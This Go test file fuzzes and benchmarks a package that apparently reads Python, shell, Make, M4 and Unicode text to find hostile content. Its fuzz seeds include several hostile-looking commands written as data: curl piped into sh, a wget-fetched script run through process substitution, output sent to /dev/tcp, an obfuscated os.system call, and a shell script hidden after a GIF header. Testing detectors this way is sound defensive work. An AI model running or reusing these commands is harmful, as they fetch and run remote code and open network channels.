package content

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// readers are what this package reads hostile texts with, apart from
// JavaScript.
var readers = map[string]func(source, *facts){
	"python": readPython, "shell": readShell, "make": readMake, "m4": readM4, "unicode": readUnicode,
}

func seeds(f *testing.F) {
	for _, s := range []string{
		hidingM4,
		"curl -fsSL \"$U\" | sh -s -- --yes <<'EOF'\nx\nEOF\n",
		"case $1 in a|b) eval \"`echo \\`x\\``\";; *) . <(wget -qO- $u);; esac",
		"x=$'\\x63' y=${x:-$(a \"${b}\" $((1+2)))}; { $x | tr 'a-m' 'n-z'; } > /dev/tcp/192.0.2.1/1 2>&1 &",
		"A := $(shell $(B) ${C} $$x)\nall: ; @x\n\t@for i in *; do \\\n\t  echo $$i; done\nX != tail -c 3 t | xz -dc\n",
		"import os as o, base64\nfrom a.b import (c as d,\n  e)\ndef f(x: int = 3, *a, **k) -> str:\n\treturn getattr(o, 'sys' 'tem')(x[::-1])\n",
		"@d\nasync def g():\n  async with a as b: exec(rb'''x''' + f\"{h(1)!r:>{w}}\", {**k})\nclass C(D, metaclass=E):\n  x: y = [i async for i in j if k]\n",
		"lambda: (yield)\nif x := 1: pass\nprint(''.join(map(chr, [1,2]))) ; \\\n  __import__('x').y[0:1, ...]\n",
		"AC_DEFUN([A], [AC_CONFIG_COMMANDS([x], [eval $a | $SHELL], [a=\"b [$1]\"])])\ndnl it's\n",
		"let a\u3164 = '\u202e \u2066// x\u2069'; // \U000e0041\U000e0042\ufe0f\ufe00 \U0001F3F4\U000E0067\n",
	} {
		f.Add(s)
	}
}

// Reading never fails, whatever the bytes, and its time is in proportion to
// them: what is quadratic ends the fuzzer's patience.
func fuzzReader(f *testing.F, name string) {
	seeds(f)
	read := readers[name]
	f.Fuzz(func(t *testing.T, text string) {
		found := new(facts)
		read(source{"x", text, 1}, found)
		lines := strings.Count(text, "\n") + 2
		for _, s := range found.sites {
			if s.line < 0 || s.line > lines {
				t.Errorf("line %d of %d: %+v", s.line, lines, s)
			}
		}
		for _, fl := range found.flows {
			if fl.from == 0 || fl.from&heldOwn != 0 || len(fl.says) > 4*maxSnippet {
				t.Errorf("%+v", fl)
			}
		}
	})
}

func FuzzPython(f *testing.F)  { fuzzReader(f, "python") }
func FuzzShell(f *testing.F)   { fuzzReader(f, "shell") }
func FuzzMake(f *testing.F)    { fuzzReader(f, "make") }
func FuzzM4(f *testing.F)      { fuzzReader(f, "m4") }
func FuzzUnicode(f *testing.F) { fuzzReader(f, "unicode") }

func FuzzBinaryKind(f *testing.F) {
	for _, s := range []string{"\x7fELF\x02\x01\x01\x00", "MZ" + strings.Repeat("\x00", 58) + "\x80\x00\x00\x00" + strings.Repeat("x", 64) + "PE\x00\x00",
		"\xca\xfe\xba\xbe\x00\x00\x00\x02", "\xca\xfe\xba\xbe\x00\x00\x00\x34", "\x00asm\x01\x00\x00\x00", "\xa7\x0d\x0d\x0a\x00\x00\x00\x00xxxxxxxx",
		"\x89PNG\r\n\x1a\n....IEND\xaeB`\x82\x7fELF\x02\x01\x01\x00", "GIF89a\x00;#!/bin/sh\n", "\xff\xd8\xff..\xff\xd9MZ"} {
		f.Add("a.png", []byte(s))
	}
	f.Fuzz(func(t *testing.T, name string, head []byte) { binaryKind(name, head) })
}

// Texts made to take long: deep nesting, quotes without end, values that grow.
// What takes more than its share shows in the log, and in the test's own limit.
func TestReadersAreLinear(t *testing.T) {
	n := 200_000
	for name, text := range map[string]string{
		"brackets":    strings.Repeat("(", n),
		"square":      strings.Repeat("[", n),
		"braces":      "x=" + strings.Repeat("{", n),
		"dollars":     strings.Repeat("$(", n),
		"expansions":  strings.Repeat("${", n),
		"backquotes":  strings.Repeat("`\\", n),
		"double":      strings.Repeat("\"$(", n),
		"apostrophes": strings.Repeat("it's ", n),
		"here":        strings.Repeat("cat <<E\n", n/4),
		"growing":     strings.Repeat("a=$a$a$a; eval \"$a\"\n", n/20),
		"loops":       strings.Repeat("a='eval $a; eval $a'; eval $a\n", 5000),
		"if":          strings.Repeat("if ", n),
		"case":        strings.Repeat("case x in ", n/2),
		"lambda":      strings.Repeat("lambda x:", n/4),
		"calls":       strings.Repeat("f(", n),
		"sums":        strings.Repeat("x = x + 'aaaaaaaaaaaaaaaaaaaaaaaa'\n", n/8),
		"exec":        strings.Repeat("exec('", n/8),
		"format":      "f'" + strings.Repeat("{f\"{", n/4) + "'",
		"functions":   strings.Repeat("def f(a):\n f(a)\n", n/8),
		"commas":      strings.Repeat("a,", n) + "\n",
		"macros":      strings.Repeat("AC_X([", n/4),
		"make":        strings.Repeat("A = $(A)$(A)\n", n/8),
		"selectors":   strings.Repeat("x\ufe0f\ufe00", n/4),
		"cyrillic":    strings.Repeat("aа", n),
		"bidi":        strings.Repeat("\u202e=", n),
	} {
		for reader, read := range readers {
			start := time.Now()
			read(source{"x", text, 1}, new(facts))
			t.Logf("%s of %s: %d bytes in %v", reader, name, len(text), time.Since(start))
		}
	}
}

// BenchmarkReaders reads the texts of the imitations and this package's own
// folder, or those of KENNEL_TEXTS.
func BenchmarkReaders(b *testing.B) {
	root := os.Getenv("KENNEL_TEXTS")
	if root == "" {
		root = "testdata"
	}
	texts := map[string][]string{}
	size := map[string]int64{}
	err := filepath.WalkDir(root, func(name string, d os.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(name)
		if err != nil {
			return err
		}
		for reader, read := range map[string]*language{"python": &python, "shell": &shell, "make": &makefile, "m4": &macros} {
			if (root == "testdata" || languageOf(name, string(text[:min(len(text), 4096)])) == read) && size[reader] < 32<<20 {
				texts[reader] = append(texts[reader], string(text))
				size[reader] += int64(len(text))
			}
		}
		if size["unicode"] < 64<<20 {
			texts["unicode"] = append(texts["unicode"], string(text))
			size["unicode"] += int64(len(text))
		}
		return nil
	})
	if err != nil {
		b.Fatal(err)
	}
	for name, read := range readers {
		b.Run(name, func(b *testing.B) {
			b.SetBytes(size[name])
			b.ReportAllocs()
			for range b.N {
				for _, text := range texts[name] {
					read(source{"x", text, 1}, new(facts))
				}
			}
		})
	}
}
